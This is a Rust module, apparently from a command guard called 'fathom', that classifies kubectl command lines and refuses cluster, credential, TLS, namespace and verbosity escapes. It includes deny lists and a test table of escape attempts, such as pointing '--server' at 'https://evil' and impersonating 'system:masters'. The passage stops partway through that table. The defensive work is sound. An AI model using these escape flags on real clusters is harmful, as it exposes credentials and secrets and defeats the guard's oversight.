//! `kubectl [flags] VERB [SUBCOMMAND] [TYPE[,TYPE…][/NAME] [NAME…]] [flags] [-- ARGS…]`.
//!
//! kubectl is built on cobra and pflag, and this classifier follows both:
//!
//! * cobra finds the command path first, skipping flags: a `--flag` or `-f` without `=` that
//!   the current command level does not know as a switch is taken to swallow the next word.
//!   So `kubectl -n x get pods` runs `get`, while `kubectl -A get pods` looks for a command
//!   named `pods` (and fails). Command names are case-sensitive.
//! * pflag then parses the leaf command's flags anywhere on the line: no abbreviations, `_`
//!   read as `-` in long names (`--as_group`), short flags in clusters (`-itn x`) and with
//!   attached values (`-nfoo`, `-n=foo`); a flag that needs a value takes the next word even
//!   when it starts with `-`. A bare `--` ends the flags.
//! * A first word that names no kubectl command runs a `kubectl-<word>` plugin from `PATH`.

use super::{
    Class, Classification, FileArg, Options, Refusal, forbidden_spelling, verdict as done,
};

/// Global flags that pick the kubeconfig, cluster, credentials or transport security, or let a
/// file or cache steer requests; refused unless the integration allows them.
const PINNED: &[&str] = &[
    "--kubeconfig",
    "--kuberc",
    "--context",
    "--cluster",
    "--server",
    "--user",
    "--token",
    "--as",
    "--as-group",
    "--as-uid",
    "--as-user-extra",
    "--username",
    "--password",
    "--certificate-authority",
    "--client-certificate",
    "--client-key",
    "--insecure-skip-tls-verify",
    "--tls-server-name",
    "--cache-dir",
    "--vmodule",
];

/// Flags that leave the pinned namespace (refused when `namespace_pinned`).
const NAMESPACE_FLAGS: &[&str] = &["--namespace", "--all-namespaces"];

/// Highest `-v` level let through: from 7 kubectl logs request headers, from 8 response
/// bodies (the body behind `describe secret` carries the secret's data).
const MAX_VERBOSITY: u32 = 6;

/// Root switches cobra knows while it looks for the command (`--help` is not one yet, so
/// `kubectl --help get` looks for a command named after `get`).
const ROOT_SWITCHES: &[&str] = &[
    "insecure-skip-tls-verify",
    "match-server-version",
    "disable-compression",
    "warnings-as-errors",
];

/// Switches of `kubectl create` itself, which cobra skips while looking for its subcommand.
const CREATE_SWITCHES: &[&str] = &[
    "allow-missing-template-keys",
    "dry-run",
    "edit",
    "recursive",
    "save-config",
    "show-managed-fields",
    "validate",
    "windows-line-endings",
];

/// Switches of `kubectl apply` itself, skipped while looking for its subcommand.
const APPLY_SWITCHES: &[&str] = &[
    "all",
    "allow-missing-template-keys",
    "cascade",
    "dry-run",
    "force",
    "force-conflicts",
    "openapi-patch",
    "overwrite",
    "prune",
    "recursive",
    "server-side",
    "show-managed-fields",
    "validate",
    "wait",
];

/// Long flags of kubectl's commands that take no separate value: booleans, and `--dry-run`,
/// `--validate` and `--cascade`, which have a default for the bare flag.
const LEAF_SWITCHES: &[&str] = &[
    "all",
    "all-containers",
    "all-namespaces",
    "all-pods",
    "allow-missing-template-keys",
    "append-hash",
    "append-server-path",
    "arguments-only",
    "as-current-user",
    "attach",
    "cached",
    "cascade",
    "client",
    "command",
    "create-annotation",
    "current",
    "delete-emptydir-data",
    "disable-compression",
    "disable-eviction",
    "disable-filter",
    "dry-run",
    "edit",
    "embed-certs",
    "enable-alpha-plugins",
    "enable-helm",
    "exec-provide-cluster-info",
    "expose",
    "flatten",
    "follow",
    "force",
    "force-conflicts",
    "global-default",
    "help",
    "helm-debug",
    "ignore-daemonsets",
    "ignore-errors",
    "ignore-not-found",
    "insecure-skip-tls-verify",
    "insecure-skip-tls-verify-backend",
    "interactive",
    "keep-annotations",
    "keep-init-containers",
    "keep-labels",
    "keep-liveness",
    "keep-readiness",
    "keep-startup",
    "leave-stdin-open",
    "list",
    "local",
    "match-server-version",
    "merge",
    "minify",
    "name-only",
    "namespaced",
    "network",
    "no-headers",
    "no-preserve",
    "now",
    "openapi-patch",
    "output-patch",
    "output-watch-events",
    "overwrite",
    "previous",
    "privileged",
    "prune",
    "quiet",
    "recursive",
    "remove-extra-permissions",
    "remove-extra-subjects",
    "replace",
    "resolve",
    "rm",
    "same-node",
    "save-config",
    "server-print",
    "server-side",
    "set-raw-bytes",
    "share-processes",
    "show-capacity",
    "show-events",
    "show-kind",
    "show-labels",
    "show-managed-fields",
    "stdin",
    "sum",
    "timestamps",
    "tty",
    "use-protocol-buffers",
    "validate",
    "wait",
    "warnings-as-errors",
    "watch",
    "watch-only",
    "windows-line-endings",
];

/// Long flags of kubectl's commands (and global options) that take a value.
const LEAF_VALUED: &[&str] = &[
    "accept-hosts",
    "accept-paths",
    "address",
    "aggregation-rule",
    "annotation",
    "annotations",
    "api-group",
    "api-prefix",
    "api-version",
    "as",
    "as-group",
    "as-uid",
    "as-user-extra",
    "audience",
    "auth-provider",
    "auth-provider-arg",
    "bound-object-kind",
    "bound-object-name",
    "bound-object-uid",
    "cache-dir",
    "categories",
    "cert",
    "certificate-authority",
    "chunk-size",
    "class",
    "client-certificate",
    "client-key",
    "cluster",
    "cluster-ip",
    "clusterip",
    "clusterrole",
    "concurrency",
    "container",
    "context",
    "copy-to",
    "cpu-percent",
    "current-replicas",
    "custom",
    "default-backend",
    "description",
    "docker-email",
    "docker-password",
    "docker-server",
    "docker-username",
    "duration",
    "env",
    "exec-api-version",
    "exec-arg",
    "exec-command",
    "exec-env",
    "exec-interactive-mode",
    "external-ip",
    "external-name",
    "field-manager",
    "field-selector",
    "filename",
    "for",
    "from",
    "from-env-file",
    "from-file",
    "from-literal",
    "grace-period",
    "group",
    "hard",
    "helm-api-versions",
    "helm-command",
    "helm-kube-version",
    "image",
    "image-pull-policy",
    "keepalive",
    "key",
    "keys",
    "kubeconfig",
    "kuberc",
    "kustomize",
    "label-columns",
    "labels",
    "limit-bytes",
    "limits",
    "load-balancer-ip",
    "load-restrictor",
    "log-flush-frequency",
    "max",
    "max-log-requests",
    "max-unavailable",
    "min",
    "min-available",
    "mount",
    "name",
    "namespace",
    "namespaces",
    "network-name",
    "node-port",
    "non-resource-url",
    "output",
    "output-directory",
    "override-type",
    "overrides",
    "password",
    "patch",
    "patch-file",
    "pod-running-timeout",
    "pod-selector",
    "port",
    "preemption-policy",
    "profile",
    "profile-output",
    "protocol",
    "proxy-url",
    "prune-allowlist",
    "reject-methods",
    "reject-paths",
    "replicas",
    "request-timeout",
    "requests",
    "resource",
    "resource-name",
    "resource-version",
    "restart",
    "retries",
    "revision",
    "role",
    "rule",
    "schedule",
    "scopes",
    "selector",
    "server",
    "serviceaccount",
    "session-affinity",
    "set-image",
    "since",
    "since-time",
    "skip-wait-for-delete-timeout",
    "sort-by",
    "subresource",
    "tail",
    "target",
    "target-port",
    "tcp",
    "template",
    "timeout",
    "tls-server-name",
    "to-revision",
    "token",
    "type",
    "types",
    "unix-socket",
    "user",
    "username",
    "v",
    "value",
    "verb",
    "verbs",
    "vmodule",
    "www",
    "www-prefix",
];

/// Output formats that print only names or table columns, never object data.
const TABLE_OUTPUTS: &[&str] = &["", "wide", "name"];

/// A kubectl command: its name, its aliases and its subcommands.
struct Cmd {
    /// The canonical name, used in the command words.
    name: &'static str,
    /// Other names cobra accepts for it.
    aliases: &'static [&'static str],
    /// Its subcommands.
    subs: &'static [Cmd],
}

/// A command without aliases or subcommands.
const fn leaf(name: &'static str) -> Cmd {
    Cmd {
        name,
        aliases: &[],
        subs: &[],
    }
}

/// A command that also answers to other names.
const fn aka(name: &'static str, aliases: &'static [&'static str]) -> Cmd {
    Cmd {
        name,
        aliases,
        subs: &[],
    }
}

/// A command with subcommands.
const fn group(name: &'static str, subs: &'static [Cmd]) -> Cmd {
    Cmd {
        name,
        aliases: &[],
        subs,
    }
}

/// kubectl's built-in commands (version 1.32), with the subcommands that matter.
const ROOT: &[Cmd] = &[
    group("create", CREATE),
    leaf("expose"),
    leaf("run"),
    group("set", SET),
    leaf("explain"),
    leaf("get"),
    leaf("edit"),
    leaf("delete"),
    group("rollout", ROLLOUT),
    leaf("scale"),
    leaf("autoscale"),
    group("certificate", CERTIFICATE),
    group("cluster-info", CLUSTER_INFO),
    group("top", TOP),
    leaf("cordon"),
    leaf("uncordon"),
    leaf("drain"),
    leaf("taint"),
    leaf("describe"),
    leaf("logs"),
    leaf("attach"),
    leaf("exec"),
    leaf("port-forward"),
    leaf("proxy"),
    leaf("cp"),
    group("auth", AUTH),
    leaf("debug"),
    leaf("events"),
    leaf("diff"),
    group("apply", APPLY),
    leaf("patch"),
    leaf("replace"),
    leaf("wait"),
    leaf("kustomize"),
    leaf("label"),
    leaf("annotate"),
    leaf("completion"),
    leaf("api-resources"),
    leaf("api-versions"),
    group("config", CONFIG),
    group("plugin", PLUGIN),
    leaf("version"),
    leaf("options"),
    leaf("help"),
];

/// `kubectl create` subcommands.
const CREATE: &[Cmd] = &[
    leaf("clusterrole"),
    leaf("clusterrolebinding"),
    aka("configmap", &["cm"]),
    aka("cronjob", &["cj"]),
    aka("deployment", &["deploy"]),
    aka("ingress", &["ing"]),
    leaf("job"),
    aka("namespace", &["ns"]),
    aka("poddisruptionbudget", &["pdb"]),
    aka("priorityclass", &["pc"]),
    aka("quota", &["resourcequota"]),
    leaf("role"),
    leaf("rolebinding"),
    group("secret", CREATE_SECRET),
    Cmd {
        name: "service",
        aliases: &["svc"],
        subs: CREATE_SERVICE,
    },
    aka("serviceaccount", &["sa"]),
    leaf("token"),
];

/// `kubectl create secret` subcommands.
const CREATE_SECRET: &[Cmd] = &[leaf("docker-registry"), leaf("generic"), leaf("tls")];

/// `kubectl create service` subcommands.
const CREATE_SERVICE: &[Cmd] = &[
    leaf("clusterip"),
    leaf("externalname"),
    leaf("loadbalancer"),
    leaf("nodeport"),
];

/// `kubectl set` subcommands.
const SET: &[Cmd] = &[
    leaf("env"),
    leaf("image"),
    leaf("resources"),
    leaf("selector"),
    aka("serviceaccount", &["sa"]),
    leaf("subject"),
];

/// `kubectl rollout` subcommands.
const ROLLOUT: &[Cmd] = &[
    leaf("history"),
    leaf("pause"),
    leaf("restart"),
    leaf("resume"),
    leaf("status"),
    leaf("undo"),
];

/// `kubectl certificate` subcommands.
const CERTIFICATE: &[Cmd] = &[leaf("approve"), leaf("deny")];

/// `kubectl cluster-info` subcommands.
const CLUSTER_INFO: &[Cmd] = &[leaf("dump")];

/// `kubectl top` subcommands.
const TOP: &[Cmd] = &[aka("node", &["nodes", "no"]), aka("pod", &["pods", "po"])];

/// `kubectl auth` subcommands.
const AUTH: &[Cmd] = &[leaf("can-i"), leaf("reconcile"), leaf("whoami")];

/// `kubectl apply` subcommands.
const APPLY: &[Cmd] = &[
    leaf("edit-last-applied"),
    leaf("set-last-applied"),
    leaf("view-last-applied"),
];

/// `kubectl config` subcommands.
const CONFIG: &[Cmd] = &[
    leaf("current-context"),
    leaf("delete-cluster"),
    leaf("delete-context"),
    leaf("delete-user"),
    leaf("get-clusters"),
    leaf("get-contexts"),
    leaf("get-users"),
    leaf("rename-context"),
    leaf("set"),
    leaf("set-cluster"),
    leaf("set-context"),
    leaf("set-credentials"),
    leaf("unset"),
    aka("use-context", &["use"]),
    leaf("view"),
];

/// `kubectl plugin` subcommands.
const PLUGIN: &[Cmd] = &[leaf("list")];

/// Verbs whose first operand is a resource type, kept as a command word (`get pods`).
const TYPED_VERBS: &[&str] = &[
    "get",
    "describe",
    "delete",
    "edit",
    "patch",
    "label",
    "annotate",
    "explain",
    "scale",
    "autoscale",
    "expose",
    "wait",
    "rollout",
    "set",
    "apply",
];

/// Classifies a `kubectl` command line (the words after `kubectl`).
pub fn classify(args: &[String], opts: &Options) -> Result<Classification, Refusal> {
    let (path, rest, stray) = find_path(args);
    let parsed = parse_flags(args, &rest, &path, opts)?;
    let mut files = Vec::new();
    collect_files(&path, &parsed, opts, &mut files)?;
    let mut words: Vec<String> = path.iter().map(|w| (*w).to_string()).collect();
    if let Some(j) = stray {
        words.push(args[j].clone());
        let why = if path.is_empty() {
            "not a kubectl command: kubectl would run a `kubectl-…` plugin from PATH"
        } else {
            "a subcommand fathom does not know; counted as a write"
        };
        return Ok(done(words, Class::Write, true, why, files));
    }
    let Some(&verb) = path.first() else {
        return Err(Refusal::new(
            args.first().map_or("", String::as_str),
            "no kubectl command named (expected `kubectl VERB …`)",
        ));
    };
    let sub = path.get(1).copied();
    let operands: Vec<&str> = parsed
        .operands
        .iter()
        .chain(&parsed.after_dash)
        .map(String::as_str)
        .collect();
    if TYPED_VERBS.contains(&verb)
        && let Some(first) = operands.first()
    {
        words.push(type_word(first));
    }
    if parsed.has("raw")
        && matches!(verb, "get" | "create" | "replace" | "delete")
        && opts.namespace_pinned
        && !opts.allows("--raw")
    {
        return Err(Refusal::new(
            "--raw",
            "`--raw` requests any API path, outside the pinned namespace too",
        ));
    }
    let secretish = operands.iter().any(|o| names_secret(o))
        || parsed.has("filename")
        || parsed.has("kustomize");
    let (class, why) = match (verb, sub) {
        ("get", _) if parsed.has("raw") => (
            Class::SecretRead,
            "`--raw` reads any API path, secrets included",
        ),
        ("get", _) if secretish && shows_data(&parsed) => (
            Class::SecretRead,
            "prints Secret data (or may: the types come from files)",
        ),
        ("get", _) => (Class::Read, "`get` only reads"),
        ("describe" | "explain" | "logs" | "events" | "wait" | "api-resources", _)
        | ("api-versions" | "version" | "completion" | "options" | "help", _)
        | ("top" | "diff", _) => (Class::Read, "only reads cluster state"),
        ("cluster-info", _) => (Class::Read, "prints cluster information"),
        ("kustomize", _)
            if [
                "enable-alpha-plugins",
                "enable-exec",
                "enable-helm",
                "helm-command",
            ]
            .iter()
            .any(|f| parsed.has(f)) =>
        {
            (
                Class::Write,
                "runs kustomize plugins or helm on this machine",
            )
        }
        ("kustomize", _) => (Class::Read, "renders local manifests"),
        ("auth", Some("can-i" | "whoami") | None) => (Class::Read, "only asks about access"),
        ("config", Some("view")) if parsed.has("raw") || parsed.has("flatten") => (
            Class::SecretRead,
            "`config view --raw`/`--flatten` prints credentials",
        ),
        ("config", Some("view" | "get-contexts" | "get-clusters" | "get-users") | None)
        | ("config", Some("current-context")) => (Class::Read, "only reads the kubeconfig"),
        ("config", _) => (Class::Write, "changes the kubeconfig"),
        ("rollout", Some("status" | "history") | None) => (Class::Read, "only reads rollouts"),
        ("apply", Some("view-last-applied")) if secretish => (
            Class::SecretRead,
            "prints the last-applied configuration of Secrets",
        ),
        ("apply", Some("view-last-applied")) => (Class::Read, "prints last-applied configuration"),
        ("create", Some("token")) => (Class::SecretRead, "mints a service account token"),
        ("plugin", _) => {
            return Ok(done(
                words,
                Class::Write,
                true,
                "plugin commands deal with programs on PATH; counted as a write",
                files,
            ));
        }
        ("exec" | "attach" | "port-forward" | "proxy" | "debug" | "run" | "cp", _) => {
            (Class::Write, "runs in or connects to workloads")
        }
        _ => (Class::Write, "changes cluster state"),
    };
    Ok(done(words, class, false, why, files))
}

/// Finds the command path the way cobra does. Returns the canonical command names, the
/// indices of the words left for flag parsing, and the index of a word that names no command
/// where one was expected (a plugin at the top level).
fn find_path(args: &[String]) -> (Vec<&'static str>, Vec<usize>, Option<usize>) {
    let mut rest: Vec<usize> = (0..args.len()).collect();
    let mut path: Vec<&'static str> = Vec::new();
    let mut level = ROOT;
    while !level.is_empty() {
        let Some(pos) = next_command_word(args, &rest, &path) else {
            break;
        };
        let word = args[rest[pos]].as_str();
        let Some(cmd) = level
            .iter()
            .find(|c| c.name == word || c.aliases.contains(&word))
        else {
            let stray = rest[pos];
            return (path, rest, Some(stray));
        };
        path.push(cmd.name);
        rest.remove(pos);
        level = cmd.subs;
    }
    (path, rest, None)
}

/// The position (in `rest`) of the next command word, skipping flags as cobra's `stripFlags`
/// does at the command level `path`.
fn next_command_word(args: &[String], rest: &[usize], path: &[&str]) -> Option<usize> {
    let mut i = 0;
    while i < rest.len() {
        let s = args[rest[i]].as_str();
        if s == "--" {
            return None;
        }
        let swallows_next = if let Some(name) = s.strip_prefix("--") {
            !s.contains('=') && !level_switch(path, &name.replace('_', "-"))
        } else if let Some(short) = s.strip_prefix('-') {
            s.len() == 2 && short != "=" && !(short == "R" && create_or_apply(path))
        } else if s.is_empty() {
            false
        } else {
            return Some(i);
        };
        i += if swallows_next { 2 } else { 1 };
    }
    None
}

/// Whether the level is `kubectl create` or `kubectl apply` (the groups with own switches).
fn create_or_apply(path: &[&str]) -> bool {
    path == ["create"] || path == ["apply"]
}

/// Whether `name` is a switch cobra knows at the command level `path`.
fn level_switch(path: &[&str], name: &str) -> bool {
    ROOT_SWITCHES.contains(&name)
        || (path == ["create"] && CREATE_SWITCHES.contains(&name))
        || (path == ["apply"] && APPLY_SWITCHES.contains(&name))
}

/// Whether a long flag of the leaf command `path` takes a value (`None`: kubectl does not
/// know it, so the command would fail).
fn long_arity(path: &[&str], name: &str) -> Option<bool> {
    match name {
        "containers" => return Some(path != ["top", "pod"]),
        "prefix" => return Some(path != ["logs"]),
        "raw" => return Some(path != ["config", "view"]),
        _ => {}
    }
    if LEAF_SWITCHES.contains(&name) {
        Some(false)
    } else if LEAF_VALUED.contains(&name) {
        Some(true)
    } else {
        None
    }
}

/// Whether a short flag of the leaf command `path` takes a value (`None`: unknown).
fn short_arity(path: &[&str], c: char) -> Option<bool> {
    match c {
        'A' | 'R' | 'h' | 'i' | 'q' | 't' => Some(false),
        'w' => Some(path == ["proxy"]),
        'f' | 'p' => Some(path != ["logs"]),
        'c' | 'e' | 'k' | 'l' | 'L' | 'o' | 'P' | 'r' | 'u' | 'n' | 's' | 'v' => Some(true),
        _ => None,
    }
}

/// The long name of a short flag where its meaning matters here.
fn short_name(path: &[&str], c: char) -> String {
    let logs = path == ["logs"];
    let proxy = path == ["proxy"];
    let name = match c {
        'A' => "all-namespaces",
        'n' => "namespace",
        's' => "server",
        'v' => "v",
        'o' => "output",
        'k' => "kustomize",
        'h' => "help",
        'u' => "unix-socket",
        'l' => "selector",
        'c' => "container",
        'f' if logs => "follow",
        'f' => "filename",
        'p' if logs => "previous",
        'p' if proxy => "port",
        'p' => "patch",
        'w' if proxy => "www",
        'w' => "watch",
        other => return format!("-{other}"),
    };
    name.to_string()
}

/// One flag read from a word.
struct Flag {
    /// Long name without dashes (`_` turned into `-`), or `-x` for an unmapped short flag.
    name: String,
    /// The value attached to the word (`--x=v`, `-xv`, `-x=v`).
    value: Option<String>,
    /// The flag takes the next word as its value.
    wants_value: bool,
    /// kubectl knows the flag (an unknown one makes the command fail).
    known: bool,
}

/// The flags pflag reads from one word, or `None` for a positional argument.
fn read_flags(word: &str, path: &[&str]) -> Option<Vec<Flag>> {
    if let Some(rest) = word.strip_prefix("--") {
        let (name, value) = match rest.split_once('=') {
            Some((n, v)) => (n, Some(v.to_string())),
            None => (rest, None),
        };
        let name = name.replace('_', "-");
        let arity = long_arity(path, &name);
        return Some(vec![Flag {
            wants_value: value.is_none() && arity == Some(true),
            known: arity.is_some(),
            name,
            value,
        }]);
    }
    let shorts = word.strip_prefix('-')?;
    if shorts.is_empty() {
        return None;
    }
    let mut flags = Vec::new();
    for (i, c) in shorts.char_indices() {
        let after = &shorts[i + c.len_utf8()..];
        let name = short_name(path, c);
        let arity = short_arity(path, c);
        if let Some(v) = after.strip_prefix('=') {
            flags.push(Flag {
                name,
                value: Some(v.to_string()),
                wants_value: false,
                known: arity.is_some(),
            });
            break;
        }
        if arity == Some(true) {
            flags.push(Flag {
                name,
                value: (!after.is_empty()).then(|| after.to_string()),
                wants_value: after.is_empty(),
                known: true,
            });
            break;
        }
        flags.push(Flag {
            name,
            value: None,
            wants_value: false,
            known: arity.is_some(),
        });
    }
    Some(flags)
}

/// What pflag reads from the words after the command path.
#[derive(Default)]
struct Parsed {
    /// Positional arguments before a terminating `--`.
    operands: Vec<String>,
    /// Arguments after a terminating `--`.
    after_dash: Vec<String>,
    /// Flags (long names) with their values, in order.
    flags: Vec<(String, Option<String>)>,
}

/// Lookups over the parsed flags.
impl Parsed {
    /// Whether the flag was given (any value but an explicit `false`).
    fn has(&self, name: &str) -> bool {
        self.flags
            .iter()
            .any(|(n, v)| n == name && v.as_deref() != Some("false"))
    }

    /// The values the flag was given (`None` for a bare flag).
    fn values<'a>(&'a self, name: &'a str) -> impl Iterator<Item = Option<&'a str>> + 'a {
        self.flags
            .iter()
            .filter(move |(n, _)| n == name)
            .map(|(_, v)| v.as_deref())
    }
}

/// Parses the flags of the leaf command `path` the way pflag does, refusing pinned flags in
/// every spelling (values that look like flags are checked too, in case they are).
fn parse_flags(
    args: &[String],
    rest: &[usize],
    path: &[&str],
    opts: &Options,
) -> Result<Parsed, Refusal> {
    let mut parsed = Parsed::default();
    let mut i = 0;
    while i < rest.len() {
        let word = args[rest[i]].as_str();
        i += 1;
        if word == "--" {
            parsed.after_dash = rest[i..].iter().map(|&j| args[j].clone()).collect();
            break;
        }
        let Some(flags) = read_flags(word, path) else {
            parsed.operands.push(word.to_string());
            continue;
        };
        for flag in flags {
            let mut value = flag.value;
            let next = rest.get(i).map(|&j| args[j].as_str());
            if flag.wants_value {
                if let Some(v) = next {
                    i += 1;
                    if v.starts_with('-') {
                        check_loose(v, path, opts)?;
                    }
                    value = Some(v.to_string());
                }
            } else if !flag.known && value.is_none() && next == Some("--") {
                // An unknown flag might take `--` as its value: keep reading flags after it.
                i += 1;
            }
            check_flag(word, &flag.name, value.as_deref(), opts)?;
            parsed.flags.push((flag.name, value));
        }
    }
    Ok(parsed)
}

/// Checks a word taken as a flag's value in case kubectl reads it as flags after all.
fn check_loose(word: &str, path: &[&str], opts: &Options) -> Result<(), Refusal> {
    for flag in read_flags(word, path).unwrap_or_default() {
        check_flag(word, &flag.name, flag.value.as_deref().or(Some("0")), opts)?;
    }
    Ok(())
}

/// Refuses a pinned flag, a namespace flag when the namespace is pinned, and high verbosity.
fn check_flag(word: &str, name: &str, value: Option<&str>, opts: &Options) -> Result<(), Refusal> {
    let full = format!("--{name}");
    if let Some(flag) = forbidden_spelling(&full, PINNED, false, opts) {
        return Err(Refusal::new(
            word,
            format!("`{flag}` would change the pinned cluster, credentials or TLS settings"),
        ));
    }
    if opts.namespace_pinned
        && let Some(flag) = forbidden_spelling(&full, NAMESPACE_FLAGS, false, opts)
    {
        return Err(Refusal::new(
            word,
            format!("`{flag}` would leave the pinned namespace"),
        ));
    }
    if name == "v" && !opts.allows("--v") {
        let level = value.and_then(|v| v.parse::<u32>().ok());
        if level.is_none_or(|l| l > MAX_VERBOSITY) {
            return Err(Refusal::new(
                word,
                format!(
                    "`--v` above {MAX_VERBOSITY} logs request headers and bodies, secrets included"
                ),
            ));
        }
    }
    Ok(())
}

/// The resource types of an operand, lower-cased, names dropped: `Pod/web,svc` → `pod,svc`.
fn type_word(operand: &str) -> String {
    operand
        .split(',')
        .map(|item| item.split('/').next().unwrap_or_default().to_lowercase())
        .collect::<Vec<_>>()
        .join(",")
}

/// Whether an operand names the `secrets` type in any spelling: `secret`, `Secrets`,
/// `secret/name`, `secrets.v1.`, or an item of a comma list. Non-ASCII items count too, since
/// kubectl folds case with Unicode rules.
fn names_secret(operand: &str) -> bool {
    operand.split(',').any(|item| {
        let ty = item.split('/').next().unwrap_or_default();
        let base = ty.split('.').next().unwrap_or_default();
        !base.is_ascii()
            || base.eq_ignore_ascii_case("secret")
            || base.eq_ignore_ascii_case("secrets")
    })
}

/// Whether the output format prints object data (anything but the table, `wide` or `name`).
fn shows_data(parsed: &Parsed) -> bool {
    parsed.has("template")
        || parsed
            .values("output")
            .any(|o| o.is_none_or(|o| !TABLE_OUTPUTS.contains(&o.to_ascii_lowercase().as_str())))
}

/// Collects the local files the flags and operands name, refusing remote manifests and
/// `kubectl cp` specs that name another namespace.
fn collect_files(
    path: &[&str],
    parsed: &Parsed,
    opts: &Options,
    files: &mut Vec<FileArg>,
) -> Result<(), Refusal> {
    let file_output = parsed
        .values("output")
        .flatten()
        .any(|o| o.split('=').next().unwrap_or_default().ends_with("-file"));
    for (name, value) in &parsed.flags {
        let Some(v) = value.as_deref() else {
            continue;
        };
        match name.as_str() {
            "filename" => {
                for item in list_items(name, v)? {
                    if item == "-" {
                        continue;
                    }
                    if item.contains("://") {
                        return Err(Refusal::new(
                            v,
                            "`--filename` URLs fetch manifests nobody reviewed; use a local file",
                        ));
                    }
                    push(files, item, false);
                }
            }
            "kustomize" => kustomize_dir(v, files)?,
            "from-file" => {
                for item in list_items(name, v)? {
                    push(files, item.split_once('=').map_or(item, |(_, p)| p), false);
                }
            }
            "from-env-file" => {
                for item in list_items(name, v)? {
                    push(files, item, false);
                }
            }
            "patch-file" | "custom" => push(files, v, false),
            "cert" | "key" if path == ["create", "secret", "tls"] => push(files, v, false),
            "www" if path == ["proxy"] => push(files, v, false),
            "unix-socket" if path == ["proxy"] => push(files, v, true),
            "output-directory" | "profile-output" => push(files, v, true),
            "output" => {
                if let Some((kind, file)) = v.split_once('=')
                    && kind.ends_with("-file")
                {
                    push(files, file, false);
                }
            }
            "template" if file_output => push(files, v, false),
            "profile"
                if v != "none"
                    && path.first() != Some(&"debug")
                    && !parsed.has("profile-output") =>
            {
                push(files, "profile.pprof", true);
            }
            _ => {}
        }
    }
    let operands = || parsed.operands.iter().chain(&parsed.after_dash);
    match path {
        ["cp"] => {
            let ops: Vec<&str> = operands().map(String::as_str).collect();
            copy_files(&ops, opts, files)?;
        }
        ["kustomize"] => {
            if let Some(dir) = operands().next() {
                kustomize_dir(dir, files)?;
            }
        }
        _ => {}
    }
    Ok(())
}

/// Splits a pflag string-slice value (comma-separated CSV); quoted items are refused since
/// their unquoting is not worth reproducing.
fn list_items<'a>(flag: &str, value: &'a str) -> Result<Vec<&'a str>, Refusal> {
    if value.contains('"') {
        return Err(Refusal::new(
            value,
            format!("quoted `--{flag}` list items are not supported; pass each path plainly"),
        ));
    }
    Ok(value.split(',').filter(|s| !s.is_empty()).collect())
}

/// Records a local file.
fn push(files: &mut Vec<FileArg>, path: &str, write: bool) {
    files.push(FileArg {
        path: path.to_string(),
        write,
    });
}

/// A kustomization directory: local ones are files to read, remote ones are refused.
fn kustomize_dir(dir: &str, files: &mut Vec<FileArg>) -> Result<(), Refusal> {
    let lower = dir.to_ascii_lowercase();
    let remote = lower.contains("://")
        || lower.starts_with("git@")
        || lower.contains("?ref=")
        || lower.contains("//")
        || ["github.com/", "gitlab.com/", "bitbucket.org/"]
            .iter()
            .any(|h| lower.starts_with(h));
    if remote {
        return Err(Refusal::new(
            dir,
            "remote kustomizations fetch manifests nobody reviewed; use a local directory",
        ));
    }
    push(files, dir, false);
    Ok(())
}

/// `kubectl cp SRC DST`: a spec with `:` is `[NAMESPACE/]POD:PATH` in a container, anything
/// else a local path (read as the source, written as the destination).
fn copy_files(operands: &[&str], opts: &Options, files: &mut Vec<FileArg>) -> Result<(), Refusal> {
    for op in operands {
        if let Some((pod, _)) = op.split_once(':')
            && pod.contains('/')
            && opts.namespace_pinned
            && !opts.allows("--namespace")
        {
            return Err(Refusal::new(
                op,
                "a `NAMESPACE/POD:PATH` spec would leave the pinned `--namespace`",
            ));
        }
    }
    for (i, op) in operands.iter().enumerate() {
        if !op.contains(':') {
            push(files, op, operands.len() != 2 || i == 1);
        }
    }
    Ok(())
}

/// Escape attempts, secret reads, reads, writes and file arguments.
#[cfg(test)]
mod tests {
    use super::*;

    use super::super::testing::argv;

    /// Options with the namespace pinned.
    fn pinned_ns() -> Options {
        Options {
            namespace_pinned: true,
            ..Options::default()
        }
    }

    /// Classifies a line that must be accepted.
    fn run(s: &str, opts: &Options) -> Classification {
        classify(&argv(s), opts).unwrap_or_else(|r| panic!("{s}: refused: {r}"))
    }

    /// Classifies a line that must be accepted, with default options.
    fn class_of(s: &str) -> Classification {
        run(s, &pinned_ns())
    }

    /// Every spelling of every pinned flag is refused, naming the flag.
    #[test]
    fn escapes_are_refused_in_every_spelling() {
        // (command line, flag the reason must name)
        let cases: &[(&str, &str)] = &[
            ("get pods --kubeconfig /tmp/k", "--kubeconfig"),
            ("get pods --kubeconfig=/tmp/k", "--kubeconfig"),
            ("--kubeconfig /tmp/k get pods", "--kubeconfig"),
            ("get pods --context prod", "--context"),
            ("--context=prod get pods", "--context"),
            ("get pods --cluster other", "--cluster"),
            ("get pods --server https://evil", "--server"),
            ("get pods --server=https://evil", "--server"),
            ("get pods -s https://evil", "--server"),
            ("get pods -shttps://evil", "--server"),
            ("get pods -s=https://evil", "--server"),
            ("-s https://evil get pods", "--server"),
            ("get pods --token abc", "--token"),
            ("get pods --token=abc", "--token"),
            ("get pods --as system:admin", "--as"),
            ("get pods --as=system:admin", "--as"),
            ("get pods --as-group system:masters", "--as-group"),
            ("get pods --as_group=system:masters", "--as-group"),
            ("get pods --as-uid 0", "--as-uid"),
            ("get pods --user admin", "--user"),
            ("get pods --username admin", "--username"),
            ("get pods --password hunter2", "--password"),
            (
                "get pods --certificate-authority ca.pem",
                "--certificate-authority",
            ),
            (
                "get pods --client-certificate c.pem",
                "--client-certificate",
            ),
            ("get pods --client-key k.pem", "--client-key"),
            (
                "get pods --insecure-skip-tls-verify",
                "--insecure-skip-tls-verify",
            ),
            (
                "get pods --insecure_skip_tls_verify=true",
                "--insecure-skip-tls-verify",
            ),
            (
                "--insecure-skip-tls-verify get pods",
                "--insecure-skip-tls-verify",
            ),
            ("get pods --tls-server-name evil", "--tls-server-name"),
            ("get pods --cache-dir /tmp/c", "--cache-dir"),
            ("get pods --kuberc /tmp/rc", "--kuberc"),
            ("get pods --vmodule=round_trippers=9", "--vmodule"),
            ("get pods -v 9", "--v"),
            ("get pods -v=8", "--v"),
            ("get pods --v=10", "--v"),
            ("get pods -v9", "--v"),
            ("get pods -n kube-system", "--namespace"),
            ("get pods -nkube-system", "--namespace"),
            ("get pods -n=kube-system", "--namespace"),
            ("-n kube-system get pods", "--namespace"),
            ("-nkube-system get pods", "--namespace"),
            ("get pods --namespace kube-system", "--namespace"),
            ("get pods --namespace=kube-system", "--namespace"),
            ("--namespace=kube-system get pods", "--namespace"),
            ("get pods -A", "--all-namespaces"),
